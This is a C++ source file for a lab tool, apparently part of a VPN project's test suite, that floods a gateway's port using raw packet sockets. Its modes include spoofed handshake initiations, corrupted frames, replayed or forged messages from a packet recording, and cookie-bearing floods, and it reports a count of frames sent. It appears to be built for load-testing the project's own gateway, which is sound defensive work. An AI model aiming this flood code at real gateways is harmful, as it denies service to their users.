// lab-flood ADDRESS:PORT: a host without a configured key floods a gateway's port with frames of
// one kind, as fast as one core makes them or at a steady rate, and says how many as a line of
// JSON. IPv4.
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include <CLI/CLI.hpp>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "common/aead.h"
#include "common/file_descriptor.h"
#include "common/profile.h"
#include "common/result.h"
#include "lab/attack/flood.h"
#include "lab/attack/forgery.h"
#include "lab/attack/recording.h"
#include "tools/shared/socket_address.h"

namespace jvpn::lab {
namespace {

using Clock = std::chrono::steady_clock;
using Frames = std::vector<std::vector<uint8_t>>;

constexpr size_t kTemplates = 256;
constexpr size_t kBatch = 64;
constexpr uint16_t kSourcePort = 40'000;
constexpr int kAnswerMs = 20;

struct FloodOptions {
  std::string target;
  std::string interface;
  std::string source;
  std::string mac;
  std::string kind = "initiation";
  std::string public_key;
  std::string recording;
  uint64_t rate = 0;
  uint64_t seed = 1;
  double seconds = 1;
};

struct Flood {
  FloodKind kind{};
  FloodWay way;
  PublicKey responder{};
  Aead aead;
  MessageMac mac;
  std::mt19937_64 random;
};

std::optional<EtherAddress> parse_mac(const std::string& text) {
  std::array<unsigned, 6> bytes{};
  EtherAddress out{};
  if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x", &bytes[0], &bytes[1], &bytes[2], &bytes[3],
                  &bytes[4], &bytes[5]) != 6)
    return std::nullopt;
  std::ranges::transform(bytes, out.begin(), [](unsigned b) { return static_cast<uint8_t>(b); });
  return out;
}

Result<EtherAddress> mac_of(const std::string& interface) {
  const FileDescriptor any(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  ifreq asked{};
  interface.copy(asked.ifr_name, sizeof asked.ifr_name - 1);
  if (!any || ::ioctl(any.get(), SIOCGIFHWADDR, &asked) != 0) return errno_error(interface);
  EtherAddress out;
  std::memcpy(out.data(), asked.ifr_hwaddr.sa_data, out.size());
  return out;
}

/// Calls until the gateway, under load, answers by the cookie of our own address.
Result<Mac> ask_for_cookie(Flood& flood, double seconds) {
  const FileDescriptor fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  const SocketAddress own = SocketAddress::from(flood.way.from, 0);
  const SocketAddress to = SocketAddress::from(flood.way.to, 0);
  if (!fd || ::bind(fd.get(), &own.any, own.length) != 0 ||
      ::connect(fd.get(), &to.any, to.length) != 0)
    return errno_error(to_string(flood.way.from));
  const auto until = Clock::now() + std::chrono::duration<double>(seconds);
  while (Clock::now() < until) {
    std::vector<uint8_t> question;
    for (size_t i = 0; i < kBatch; ++i) {
      question = random_initiation(flood.mac, flood.responder, nullptr, flood.random);
      ::send(fd.get(), question.data(), question.size(), 0);
    }
    pollfd wait{fd.get(), POLLIN, 0};
    std::array<uint8_t, 2'048> reply;
    while (::poll(&wait, 1, kAnswerMs) > 0) {
      const ssize_t bytes = ::recv(fd.get(), reply.data(), reply.size(), 0);
      if (bytes <= 0) break;
      if (const auto cookie = cookie_in(flood.aead, flood.mac, flood.responder, question,
                                        std::span(reply).first(static_cast<size_t>(bytes))))
        return *cookie;
    }
  }
  return Error{"the gateway gave no cookie: it isn't under load, or doesn't answer"};
}

Result<Frames> recorded(Flood& flood, const FloodOptions& options) {
  const bool replays = flood.kind == FloodKind::kReplay;
  const auto messages = read_recording(options.recording, flood.way.to.port,
                                       replays ? MessageKind::kHandshake : MessageKind::kControl);
  if (!messages) return messages.error();
  if (messages->empty()) return Error{options.recording + ": no such message towards that port"};
  Frames frames;
  for (size_t i = 0; i < std::max(messages->size(), kTemplates); ++i) {
    const auto& message = (*messages)[i % messages->size()];
    frames.push_back(frame_of(
        flood.way, forged(replays ? Forgery::kReplay : Forgery::kForge, message, flood.random)));
  }
  return frames;
}

Result<Frames> make_frames(Flood& flood, const FloodOptions& options) {
  if (flood.kind == FloodKind::kReplay || flood.kind == FloodKind::kReattach)
    return recorded(flood, options);
  std::optional<Mac> cookie;
  if (flood.kind == FloodKind::kCookie) {
    const auto got = ask_for_cookie(flood, options.seconds);
    if (!got) return got.error();
    cookie = *got;
  }
  FloodWay way = flood.way;
  if (flood.kind == FloodKind::kHarmless) way.to.port = static_cast<uint16_t>(way.to.port + 1);
  Frames frames;
  for (size_t i = 0; i < kTemplates; ++i) {
    auto message =
        random_initiation(flood.mac, flood.responder, cookie ? &*cookie : nullptr, flood.random);
    if (flood.kind == FloodKind::kGarbage) message[message.size() - 2 * kMacBytes] ^= 1;
    frames.push_back(frame_of(way, message));
  }
  return frames;
}

struct Sent {
  uint64_t frames = 0;
  double seconds = 0;
};

Result<Sent> send_all(Flood& flood, Frames& frames, const FloodOptions& options) {
  // Protocol 0: nothing is received.
  const FileDescriptor out(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(::if_nametoindex(options.interface.c_str()));
  const int yes = 1;
  if (!out || ::bind(out.get(), reinterpret_cast<sockaddr*>(&to), sizeof to) != 0 ||
      ::setsockopt(out.get(), SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof yes) != 0)
    return errno_error(options.interface);
  std::array<mmsghdr, kBatch> batch{};
  std::array<iovec, kBatch> places{};
  Sent sent;
  const auto begun = Clock::now();
  const auto elapsed = [&] { return std::chrono::duration<double>(Clock::now() - begun).count(); };
  for (size_t next = 0; (sent.seconds = elapsed()) < options.seconds;) {
    if (options.rate != 0 &&
        static_cast<double>(sent.frames) > sent.seconds * static_cast<double>(options.rate)) {
      std::this_thread::sleep_for(std::chrono::microseconds(50));
      continue;
    }
    for (size_t i = 0; i < kBatch; ++i) {
      auto& frame = frames[next++ % frames.size()];
      if (is_spoofed(flood.kind)) spoof(frame, flood.random);
      places[i] = {frame.data(), frame.size()};
      batch[i].msg_hdr.msg_iov = &places[i];
      batch[i].msg_hdr.msg_iovlen = 1;
    }
    const int taken = ::sendmmsg(out.get(), batch.data(), kBatch, 0);
    if (taken < 0 && errno != ENOBUFS && errno != EAGAIN) return errno_error(options.interface);
    sent.frames += static_cast<uint64_t>(std::max(taken, 0));
  }
  return sent;
}

Result<void> flood_gateway(const FloodOptions& options) {
  const auto target = Endpoint::parse(options.target);
  const auto source = IpAddress::parse(options.source);
  const auto kind = parse_flood(options.kind);
  const auto gateway = parse_mac(options.mac);
  const auto key = key_from_base64(options.public_key);
  if (!target || !source || !kind || !gateway || !key || target->address.is_v6())
    return Error{
        "expected IPv4 ADDRESS:PORT, --source, --mac, --public-key in base64, and a known --kind"};
  auto own = mac_of(options.interface);
  if (!own) return own.error();
  auto aead = Aead::create();
  if (!aead) return aead.error();
  auto mac = MessageMac::create();
  if (!mac) return mac.error();
  Flood flood{*kind,           {*own, *gateway, {*source, kSourcePort}, *target},
              PublicKey{*key}, *std::move(aead),
              *std::move(mac), std::mt19937_64(options.seed)};
  auto frames = make_frames(flood, options);
  if (!frames) return frames.error();
  const auto sent = send_all(flood, *frames, options);
  if (!sent) return sent.error();
  std::printf("{\"sent\": %llu, \"seconds\": %.3f, \"frame_bytes\": %zu}\n",
              static_cast<unsigned long long>(sent->frames), sent->seconds, frames->front().size());
  return {};
}

}  // namespace
}  // namespace jvpn::lab

int main(int argc, char** argv) try {
  CLI::App app("Floods a gateway's port, without a configured key.");
  jvpn::lab::FloodOptions options;
  app.add_option("ADDRESS:PORT", options.target, "a gateway's")->required();
  app.add_option("--interface", options.interface, "to send by")->required();
  app.add_option("--source", options.source, "our address there")->required();
  app.add_option("--mac", options.mac, "the gateway's Ethernet address")->required();
  app.add_option("--public-key", options.public_key, "the gateway's, in base64")->required();
  app.add_option("--kind", options.kind,
                 "harmless, initiation, garbage, replay, reattach or cookie");
  app.add_option("--recording", options.recording, "pcap file, for replay and reattach");
  app.add_option("--rate", options.rate, "per second; 0: as fast as it goes");
  app.add_option("--seconds", options.seconds)->check(CLI::Range(0.1, 600.0));
  app.add_option("--seed", options.seed, "of everything random");
  CLI11_PARSE(app, argc, argv);
  if (const auto done = jvpn::lab::flood_gateway(options); !done) {
    std::fprintf(stderr, "lab-flood: %s\n", done.error().message.c_str());
    return 1;
  }
  return 0;
} catch (const std::exception& error) {
  std::fprintf(stderr, "lab-flood: %s\n", error.what());
  return 1;
}
